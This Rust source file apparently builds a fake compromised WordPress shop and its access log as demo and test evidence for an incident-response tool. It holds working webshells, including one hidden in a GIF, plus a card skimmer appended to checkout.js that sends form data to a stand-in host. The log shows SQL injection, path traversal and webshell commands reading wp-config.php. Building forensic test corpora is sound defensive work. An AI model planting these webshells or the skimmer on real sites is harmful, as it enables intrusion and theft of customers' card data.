//! Deterministic sample websites and access logs: the `ir110 demo` defaced shop and the test
//! corpus.
//!
//! [`clean_site`] is a small WordPress-like tree with realistic benign code that resembles
//! attacks on the surface (uploads with `$_FILES`, `base64_decode` of options, form
//! validation scripts, `preg_replace` without `/e`). [`planted_files`] are the attacker's
//! files — kept as strings here and written at run time, never stored as samples.
//! [`attack_access_log`] is the shop's access log with the attack of [`AttackTimeline`].

use std::fmt::Write as _;

use chrono::{DateTime, Duration, Utc};

const WP_CONFIG: &str = r#"<?php
/** The base configuration for WordPress */
define( 'DB_NAME', 'shop' );
define( 'DB_USER', 'shop' );
define( 'DB_PASSWORD', 'change-me' );
define( 'DB_HOST', 'localhost' );
$table_prefix = 'wp_';
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
"#;

const INDEX_PHP: &str = r#"<?php
/**
 * Front to the WordPress application.
 */
define( 'WP_USE_THEMES', true );
require __DIR__ . '/wp-blog-header.php';
"#;

const FUNCTIONS_PHP: &str = r#"<?php
function wp_sanitize_slug( $title ) {
	$title = strtolower( $title );
	return preg_replace( '/[^a-z0-9-]+/', '-', $title );
}
function wp_get_option_blob( $name ) {
	$raw = get_option( $name );
	// Options are stored encoded; decoding them is not executing them.
	return json_decode( base64_decode( $raw ), true );
}
function wp_maybe_run_cron() {
	if ( isset( $_GET['doing_wp_cron'] ) ) {
		spawn_cron( (int) $_GET['doing_wp_cron'] );
	}
}
function wp_callback_filter( $callback, $value ) {
	return call_user_func( $callback, $value );
}
"#;

const FILE_PHP: &str = r#"<?php
function wp_handle_upload( &$file, $overrides = false ) {
	if ( ! is_uploaded_file( $file['tmp_name'] ) ) {
		return array( 'error' => __( 'Specified file failed upload test.' ) );
	}
	$new_file = wp_unique_filename( $uploads['path'], $file['name'] );
	if ( false === move_uploaded_file( $file['tmp_name'], $new_file ) ) {
		return array( 'error' => 'The uploaded file could not be moved.' );
	}
	return array( 'file' => $new_file );
}
function wp_ajax_upload( ) {
	check_ajax_referer( 'media-form' );
	$id = media_handle_upload( 'async-upload', (int) $_REQUEST['post_id'] );
	echo wp_json_encode( array( 'id' => $id ) );
}
"#;

const CONTACT_PHP: &str = r#"<?php
/* Plugin Name: Simple Contact */
function sc_handle_post() {
	if ( empty( $_POST['sc_email'] ) ) {
		return;
	}
	$email   = sanitize_email( $_POST['sc_email'] );
	$message = sanitize_textarea_field( $_POST['sc_message'] );
	wp_mail( get_option( 'admin_email' ), 'Contact', $message, array( 'Reply-To: ' . $email ) );
}
add_action( 'init', 'sc_handle_post' );
"#;

const CHECKOUT_JS: &str = r#"/* Shop checkout: client-side validation. */
(function () {
  'use strict';
  var form = document.querySelector('form.checkout');
  if (!form) { return; }
  var fields = form.querySelectorAll('input[required]');
  form.addEventListener('submit', function (event) {
    var ok = true;
    fields.forEach(function (f) {
      if (!f.value) { f.classList.add('error'); ok = false; }
    });
    if (!ok) { event.preventDefault(); }
  });
  fetch('/wp-json/shop/v1/cart', { credentials: 'same-origin' })
    .then(function (r) { return r.json(); })
    .then(function (cart) { document.querySelector('.cart-count').textContent = cart.count; });
})();
"#;

const STRIPE_JS: &str = r#"/* Card payment through the provider's hosted fields. */
var stripe = Stripe('pk_live_0000000000000000');
var card = stripe.elements().create('card');
card.mount('#card-element');
document.querySelector('#payment-form').addEventListener('submit', function (e) {
  e.preventDefault();
  stripe.createToken(card).then(function (result) {
    fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: JSON.stringify({ token: result.token.id }) });
  });
});
"#;

const THEME_HTML: &str = r#"<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<title>サンプル商店 | オンラインショップ</title>
<link rel="stylesheet" href="/wp-content/themes/shop/style.css">
<script src="https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js"></script>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-XXXX"></script>
</head>
<body>
<form class="checkout" method="post" action="/checkout/">
  <input name="billing_name" required>
  <input name="billing_email" required>
  <button type="submit">注文する</button>
</form>
<script src="/wp-content/themes/shop/js/checkout.js"></script>
</body>
</html>
"#;

/// A 1×1 transparent GIF.
const GIF: &[u8] = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;";

fn php_filler(name: &str, i: usize) -> String {
    format!(
        "<?php\n/**\n * {name} — part {i} of the core library.\n */\nclass WP_{name}_{i} {{\n\tprivate $items = array();\n\tpublic function add( $key, $value ) {{\n\t\t$this->items[ sanitize_key( $key ) ] = $value;\n\t\treturn $this;\n\t}}\n\tpublic function get( $key, $default = null ) {{\n\t\treturn isset( $this->items[ $key ] ) ? $this->items[ $key ] : $default;\n\t}}\n}}\n"
    )
}

/// A clean WordPress-like site: core, a theme with assets, two plugins, uploads with images.
pub fn clean_site() -> Vec<(String, Vec<u8>)> {
    let mut files: Vec<(String, Vec<u8>)> = vec![
        ("index.php".into(), INDEX_PHP.into()),
        ("wp-config.php".into(), WP_CONFIG.into()),
        ("wp-includes/functions.php".into(), FUNCTIONS_PHP.into()),
        ("wp-admin/includes/file.php".into(), FILE_PHP.into()),
        ("wp-content/plugins/simple-contact/simple-contact.php".into(), CONTACT_PHP.into()),
        ("wp-content/plugins/shop-pay/js/pay.js".into(), STRIPE_JS.into()),
        ("wp-content/themes/shop/js/checkout.js".into(), CHECKOUT_JS.into()),
        ("wp-content/themes/shop/index.html".into(), THEME_HTML.into()),
        ("wp-content/themes/shop/style.css".into(), b"body { font-family: sans-serif; }\n".to_vec()),
        ("wp-content/themes/shop/images/banner.gif".into(), GIF.to_vec()),
        ("wp-content/uploads/2025/12/product-01.gif".into(), GIF.to_vec()),
        ("wp-content/uploads/2025/12/product-02.gif".into(), GIF.to_vec()),
        (
            "wp-includes/js/jquery/jquery.min.js".into(),
            b"/*! jQuery v3.7.1 | (c) OpenJS Foundation */!function(e,t){\"use strict\";e.fn=e.prototype={jquery:\"3.7.1\"}}(window);\n".to_vec(),
        ),
        ("robots.txt".into(), b"User-agent: *\nDisallow: /wp-admin/\n".to_vec()),
    ];
    for (i, name) in [
        "Query", "Post", "User", "Hook", "Cache", "Rewrite", "Widget", "Theme", "Locale", "Http",
        "Meta", "Term", "Comment", "Rest", "Block", "Session",
    ]
    .iter()
    .enumerate()
    {
        files.push((
            format!("wp-includes/class-wp-{}.php", name.to_lowercase()),
            php_filler(name, i).into_bytes(),
        ));
    }
    files
}

/// The attacker's files: `(relative path, content)`.
pub fn planted_files() -> Vec<(String, Vec<u8>)> {
    let mut gif = GIF.to_vec();
    gif.extend_from_slice(b"<?php system($_GET['c']); ?>");
    vec![
        (
            "wp-content/uploads/2026/01/cache.php".into(),
            b"<?php\nerror_reporting(0);\nif(isset($_POST['x'])){@eval(base64_decode($_POST['x']));}\n?>\n".to_vec(),
        ),
        (
            "wp-content/plugins/hello/hello-helper.php".into(),
            b"<?php\n/* Plugin Name: Hello Helper */\nif (!empty($_REQUEST['f'])) { echo $_REQUEST['f']($_REQUEST['c']); }\n".to_vec(),
        ),
        ("wp-content/themes/shop/images/banner.gif".into(), gif),
        (
            "wp-content/themes/shop/js/checkout.js".into(),
            format!(
                "{CHECKOUT_JS};(function(){{var d=document;function g(){{var o={{}};d.querySelectorAll('input, select').forEach(function(i){{o[i.name]=i.value}});if(o.cc_number||o.cardnumber){{new Image().src='https://cdn-jq-analytics.example.ru/c.gif?d='+btoa(JSON.stringify(o))}}}}d.addEventListener('submit',g,true)}})();\n"
            )
            .into_bytes(),
        ),
    ]
}

/// Times of the demo attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackTimeline {
    /// Scanner starts.
    pub scan_start: DateTime<Utc>,
    /// POST to the vulnerable plugin that writes `cache.php` (file time = this + 1 s).
    pub upload: DateTime<Utc>,
    /// POST through `cache.php` that writes the other planted files (their time = this + 2 s).
    pub second_stage: DateTime<Utc>,
    /// A second address starts using `hello-helper.php`.
    pub reuse: DateTime<Utc>,
}

impl AttackTimeline {
    /// The demo's timeline: night of 19–20 January 2026 (JST).
    pub fn demo() -> Self {
        let upload = DateTime::from_timestamp(1_768_840_330, 0).unwrap_or_default(); // 2026-01-19T16:32:10Z
        AttackTimeline {
            scan_start: upload - Duration::minutes(32),
            upload,
            second_stage: upload + Duration::minutes(40),
            reuse: upload + Duration::hours(26),
        }
    }

    /// When each planted file was written: `(relative path, time)`.
    pub fn file_times(&self) -> Vec<(String, DateTime<Utc>)> {
        planted_files()
            .into_iter()
            .map(|(p, _)| {
                let t = if p.ends_with("cache.php") {
                    self.upload + Duration::seconds(1)
                } else {
                    self.second_stage + Duration::seconds(2)
                };
                (p, t)
            })
            .collect()
    }
}

fn line(
    out: &mut String,
    ip: &str,
    ts: DateTime<Utc>,
    req: &str,
    status: u16,
    bytes: u64,
    ua: &str,
) {
    let local = ts + Duration::hours(9);
    let _ = writeln!(
        out,
        "{ip} - - [{} +0900] \"{req} HTTP/1.1\" {status} {bytes} \"-\" \"{ua}\"",
        local.format("%d/%b/%Y:%H:%M:%S")
    );
}

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";

/// The shop's access log (combined format, JST) from three days before the upload to two days
/// after, with customers, the owner's logins, and the attack of `t`.
pub fn attack_access_log(seed: u64, t: &AttackTimeline) -> String {
    let mut rng = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut next = move || {
        rng ^= rng << 13;
        rng ^= rng >> 7;
        rng ^= rng << 17;
        rng
    };
    let mut entries: Vec<(DateTime<Utc>, String)> = Vec::new();
    let start = t.upload - Duration::days(3);
    let pages = [
        "/",
        "/shop/",
        "/product/green-tea/",
        "/product/matcha/",
        "/checkout/",
        "/about/",
    ];
    let assets = [
        "/wp-content/themes/shop/style.css",
        "/wp-content/themes/shop/js/checkout.js",
        "/wp-includes/js/jquery/jquery.min.js",
        "/wp-content/themes/shop/images/banner.gif",
    ];
    // Customers: daytime visits.
    for v in 0..400u64 {
        let day = (next() % 5) as i64;
        let ts = start + Duration::days(day) + Duration::seconds((next() % 36_000) as i64);
        let ip = format!(
            "{}.{}.{}.{}",
            110 + next() % 60,
            next() % 250,
            next() % 250,
            1 + next() % 250
        );
        let page = pages[(next() % pages.len() as u64) as usize];
        let mut s = String::new();
        line(
            &mut s,
            &ip,
            ts,
            &format!("GET {page}"),
            200,
            5000 + next() % 20_000,
            BROWSER,
        );
        for (k, a) in assets.iter().enumerate() {
            line(
                &mut s,
                &ip,
                ts + Duration::seconds(1 + k as i64),
                &format!("GET {a}"),
                200,
                1000 + next() % 9000,
                BROWSER,
            );
        }
        entries.push((ts, s));
        if v % 40 == 0 {
            let mut s = String::new();
            line(
                &mut s,
                "203.0.113.10",
                ts,
                "POST /wp-login.php",
                302,
                0,
                BROWSER,
            );
            entries.push((ts, s));
        }
    }
    // The attack.
    let a = "198.51.100.23";
    let mut s = String::new();
    let probes = [
        "GET /wp-content/plugins/wp-file-manager/readme.txt",
        "GET /.env",
        "GET /wp-config.php.bak",
        "GET /.git/config",
        "GET /phpmyadmin/",
        "GET /wp-json/wp/v2/users",
        "GET /xmlrpc.php",
        "GET /wp-content/plugins/revslider/readme.txt",
        "GET /backup.zip",
        "GET /wp-admin/install.php",
    ];
    for (i, p) in probes.iter().enumerate() {
        let status = if i == 0 || i == 5 { 200 } else { 404 };
        line(
            &mut s,
            a,
            t.scan_start + Duration::seconds(i as i64 * 7),
            p,
            status,
            300,
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        );
    }
    for (i, q) in [
        "/?p=1%27%20OR%20%271%27=%271",
        "/?s=%27%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--",
        "/?page=../../../../etc/passwd",
    ]
    .iter()
    .enumerate()
    {
        line(
            &mut s,
            a,
            t.scan_start + Duration::minutes(20) + Duration::seconds(i as i64 * 11),
            &format!("GET {q}"),
            200,
            4000,
            BROWSER,
        );
    }
    entries.push((t.scan_start, s));
    let mut s = String::new();
    line(
        &mut s,
        a,
        t.upload,
        "POST /wp-admin/admin-ajax.php?action=mk_file_folder_manager",
        200,
        112,
        BROWSER,
    );
    line(
        &mut s,
        a,
        t.upload + Duration::seconds(25),
        "GET /wp-content/uploads/2026/01/cache.php",
        200,
        0,
        BROWSER,
    );
    for k in 0..5 {
        line(
            &mut s,
            a,
            t.upload + Duration::seconds(60 + k * 45),
            "POST /wp-content/uploads/2026/01/cache.php",
            200,
            80 + k as u64,
            BROWSER,
        );
    }
    line(
        &mut s,
        a,
        t.second_stage,
        "POST /wp-content/uploads/2026/01/cache.php",
        200,
        24,
        BROWSER,
    );
    entries.push((t.upload, s));
    let mut s = String::new();
    for k in 0..4 {
        let cmd = ["id", "whoami", "ls+-la", "cat+wp-config.php"][k as usize];
        line(
            &mut s,
            "203.0.113.200",
            t.reuse + Duration::seconds(k * 30),
            &format!("GET /wp-content/plugins/hello/hello-helper.php?f=system&c={cmd}"),
            200,
            120,
            "curl/8.5.0",
        );
    }
    entries.push((t.reuse, s));
    entries.sort_by_key(|x| x.0);
    // Lines inside one entry are already in time order; entries are interleaved only at
    // their starts, which is how a busy log looks after a merge.
    let mut out = String::new();
    for (_, s) in entries {
        out.push_str(&s);
    }
    out
}

/// The demo's web evidence: `web/site/…` (the backdoored shop) and `web/logs/access.log`.
///
/// File times cannot travel in `(path, bytes)` pairs; the first compromise is then found from
/// the log alone (first access), and with file times when the files are written with them.
pub fn demo_files(seed: u64) -> Vec<(String, Vec<u8>)> {
    let mut site = clean_site();
    for (path, bytes) in planted_files() {
        match site.iter_mut().find(|(p, _)| *p == path) {
            Some(entry) => entry.1 = bytes,
            None => site.push((path, bytes)),
        }
    }
    let mut out: Vec<(String, Vec<u8>)> = site
        .into_iter()
        .map(|(p, b)| (format!("web/site/{p}"), b))
        .collect();
    out.push((
        "web/logs/access.log".into(),
        attack_access_log(seed, &AttackTimeline::demo()).into_bytes(),
    ));
    out
}
